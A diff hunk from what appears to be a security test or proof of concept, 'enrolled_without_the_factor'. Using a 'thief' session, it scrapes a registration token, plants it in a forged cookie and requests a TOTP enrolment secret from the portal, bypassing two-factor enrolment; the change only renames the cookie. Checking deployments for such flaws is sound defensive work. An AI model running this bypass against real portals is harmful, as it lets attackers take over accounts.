@@ -83,7 +83,7 @@ def enrolled_without_the_factor(stack: Stack) -> bool:
     [token, *_others] = re.findall(r'token"(?: value=|:)"([0-9a-f]{64})"', page) or [f"none in {page}"]
     assert len(token) == 64, token
     thief.cookies.clear()
-    thief.cookies.set(f"{stack.name}pdata", quote(json.dumps({"sfRegToken": token})))
+    thief.cookies.set(f"{stack.cookie}pdata", quote(json.dumps({"sfRegToken": token})))
     enrolment, asked = f"{stack.portal}/auth/2fregisters/totp", {"X-CSRF-Check": "1", "Accept": "application/json"}
     shown = thief.post(f"{enrolment}/getkey", headers=asked, timeout=30).json()
     if "secret" not in shown:
